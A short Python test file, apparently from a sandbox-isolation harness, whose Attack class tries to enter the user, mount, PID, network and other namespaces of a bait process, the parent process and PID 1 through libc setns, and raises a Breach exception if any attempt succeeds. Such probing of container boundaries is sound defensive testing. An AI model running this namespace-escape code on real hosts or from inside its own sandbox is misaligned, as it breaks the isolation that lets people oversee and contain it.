"""Enters the namespaces of other processes."""

import ctypes
import os

from envs import Controller


class Attack(Controller):
    def solve(self, question):
        libc = ctypes.CDLL(None, use_errno=True)
        stopped = None
        for process in (BAIT["pid"], os.getppid(), 1, "self"):
            for kind in ("user", "mnt", "pid", "net", "uts", "ipc", "cgroup"):
                try:
                    handle = os.open(f"/proc/{process}/ns/{kind}", os.O_RDONLY)
                except OSError as error:
                    stopped = error
                    continue
                entered, error = libc.setns(handle, 0), ctypes.get_errno()
                os.close(handle)
                if entered == 0:
                    raise Breach(f"entered the {kind} namespace of process {process}")
                stopped = OSError(error, f"setns: {os.strerror(error)}")
        raise stopped
